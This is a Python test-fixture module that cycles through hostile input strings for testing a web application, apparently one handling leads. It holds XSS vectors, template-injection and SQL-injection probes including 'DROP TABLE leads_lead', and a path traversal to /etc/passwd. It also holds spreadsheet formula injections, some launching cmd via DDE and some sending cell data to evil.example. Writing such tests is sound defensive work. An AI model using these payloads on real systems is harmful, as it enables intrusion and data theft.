"""What somebody types who means harm: markup, scripts, templates, paths, letters."""

from collections.abc import Callable
from itertools import cycle

MARK = "pwned"
"""Stands in every payload where it would run, and nowhere in the program."""

PAYLOADS = (
    "<script>pwned(1)</script>",
    "<SCRIPT SRC=//pwned.example/x.js></SCRIPT>",
    "<img src=x onerror=pwned(2)>",
    "<img src='x' onerror='pwned(3)'>",
    "<svg/onload=pwned(4)>",
    "<svg><script>pwned(5)</script></svg>",
    "<body onload=pwned(6)>",
    "<iframe srcdoc='<script>pwned(7)</script>'>",
    "<iframe src=javascript:pwned(8)></iframe>",
    "<a href=javascript:pwned(9)>pwned</a>",
    "<a href=\"javascript:pwned('10')\">x</a>",
    "<math><a xlink:href=javascript:pwned(11)>",
    "<details open ontoggle=pwned(12)>",
    "<input autofocus onfocus=pwned(13)>",
    "<video><source onerror=pwned(14)>",
    "<style>@import 'pwned.css'</style>",
    "<p style=background:url(pwned)>",
    "<base href=//pwned.example/>",
    "<meta http-equiv=refresh content=0;url=//pwned.example>",
    "<link rel=stylesheet href=//pwned.example/x.css>",
    "<object data=pwned></object>",
    "<embed src=pwned>",
    "<form action=//pwned.example><button>pwned</button>",
    "<div hx-get=//pwned.example hx-trigger=load>",
    "<div hx-on::load=pwned(15) data-hx-on=pwned(15)>",
    "<pwned-element>",
    '" onmouseover="pwned(16)',
    "' onmouseover='pwned(17)",
    '"><script>pwned(18)</script>',
    "'><img src=x onerror=pwned(19)>",
    "</title><script>pwned(20)</script>",
    "</textarea><script>pwned(21)</script>",
    "</script><script>pwned(22)</script>",
    "--><script>pwned(23)</script>",
    "]]><script>pwned(24)</script>",
    '{"X-Pwned": "pwned"}',
    "x'}' hx-vals='js:{a:pwned(25)}",
    "javascript:pwned(26)",
    "data:text/html,<script>pwned(27)</script>",
    "{{ 7|add:42 }}pwned{% debug %}",
    "{0.__class__}{name}{column}%(pwned)s%s%n",
    "${7*7}pwned#{7*7}",
    "'; DROP TABLE leads_lead; --pwned",
    "1' OR '1'='1' UNION SELECT pwned",
    "../../../../etc/passwd pwned",
    "C:\\Windows\\pwned\\..\\x",
    "&lt;script&gt;pwned(28)&lt;/script&gt;",
    "&#60;img src=x onerror=pwned(29)&#62;",
    "\u202e<\u200bscript>pwned(30)",
    "＜script＞pwned(31)＜/script＞",
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16") + "pwned Ω≈ç√",
    "%3Cscript%3Epwned(32)%3C/script%3E",
    "\\u003cscript\\u003epwned(33)",
    "pwned; X-Pwned: 1",
)

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd","/C calc","x")',
    "=2+5+cmd|' /C calc'!A0",
    "=SUM(1,2)",
    "==1",
    "=",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+12125550123",
    "+A1",
    "+",
    "++1",
    "-1+1",
    "-cmd|' /C calc'!A0",
    "-A1",
    "-",
    "--1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@A1",
    "@",
    "@@1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    "'+A1",
    "'-A1",
    "'@A1",
    "'＝1",
    "=1;2",
    "=1,2",
    '="a"',
    "=A1\n=B1",
)


def hostile_texts() -> Callable[[], str]:
    """Return a function that returns one payload after the other, each numbered."""
    texts = cycle(enumerate(PAYLOADS))
    turn = iter(range(10_000_000))

    def text() -> str:
        _number, payload = next(texts)
        return f"{payload} {next(turn)}"

    return text
